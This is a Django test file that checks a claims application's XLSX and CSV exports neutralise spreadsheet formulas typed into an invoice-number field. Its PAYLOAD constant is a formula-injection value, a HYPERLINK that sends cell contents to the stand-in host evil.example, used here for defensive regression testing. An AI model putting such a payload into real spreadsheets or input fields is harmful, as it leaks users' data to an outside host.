"""Issue 13: a partner types a formula as invoice number; finance's exports keep it as text."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from declaraties import services
from tests.factories.declaraties import ingediend

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


def test_formula_as_invoice_number_is_text_in_the_xlsx_export(client, partner, financien, regels):
    ingediend(partner, regels[2024], bedrag="100.00", factuurnummer=PAYLOAD)
    client.force_login(financien)
    response = client.get(reverse("declaraties:werkvoorraad") + "?format=xlsx")
    assert response["Cache-Control"].startswith("no-store")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value and "HYPERLINK" in str(cell.value)]
    assert cells, "the invoice number is in the export"
    for cell in cells:
        assert cell.data_type == "s"
        assert cell.value == "'" + PAYLOAD


def test_formula_as_invoice_number_is_text_in_the_csv_payment_list(client, partner, financien, regels, beschikking):
    d = services.keur_goed(financien, ingediend(partner, regels[2024], bedrag="100.00", factuurnummer=PAYLOAD))
    client.force_login(financien)
    response = client.get(reverse("declaraties:betalingen") + "?format=csv")
    assert response["Cache-Control"].startswith("no-store")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    row = next(r for r in rows if d.nummer in r)
    assert "'" + PAYLOAD in row
    assert not any(value.startswith(("=", "+", "@")) for value in row)
    assert "100,00" in row  # the amount stays a plain number
